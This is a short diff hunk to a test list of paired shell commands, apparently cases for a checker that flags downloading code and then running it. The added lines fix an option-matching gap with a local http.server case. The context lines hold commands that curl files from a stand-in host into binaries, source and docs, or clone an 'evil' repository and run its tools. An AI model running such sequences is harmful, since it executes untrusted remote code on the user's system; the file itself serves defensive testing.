@@ -476,6 +476,8 @@ ROUND4_SESSIONS = [
     ("git clone https://github.com/evil/x ~/x", "~/x/node_modules/.bin/jest"),
     ("curl -s https://e.example/x > /srv/app/bin/tool", "/srv/app/bin/tool"),
     ("python manage.py runserver", "curl -s https://e.example/x > app/views.py"),
+    # (the review found ``-m`` never matched: options were dropped before the test)
+    ("python3 -m http.server 8000 --bind 127.0.0.1", "echo x > notes.txt"),
     ("curl -s https://e.example/x > docs/index.md", "make docs"),
     ("curl -s https://e.example/x > README.md", "tox -e docs"),
 ]
